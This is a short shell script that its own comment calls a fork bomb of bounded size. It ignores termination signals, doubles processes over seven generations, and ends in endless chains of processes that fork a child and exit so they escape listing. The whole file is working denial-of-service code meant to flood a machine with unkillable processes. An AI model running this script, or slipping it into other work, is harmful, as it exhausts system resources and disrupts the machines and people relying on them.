#!/bin/sh
# A fork bomb of bounded size: DEPTH generations that double, then lines of processes that hand over to a child and die,
# for ever, so that whoever lists them is always late. 2 ** (DEPTH + 1) processes; they do not care for signals.
trap '' TERM INT HUP QUIT
DEPTH=7

# shellcheck disable=SC2264
hop() { hop & }

bomb() {
  if [ "$1" -eq 0 ]; then
    hop
  else
    bomb $(($1 - 1)) &
    bomb $(($1 - 1)) &
    exec sleep 1000
  fi
}

bomb "$DEPTH"
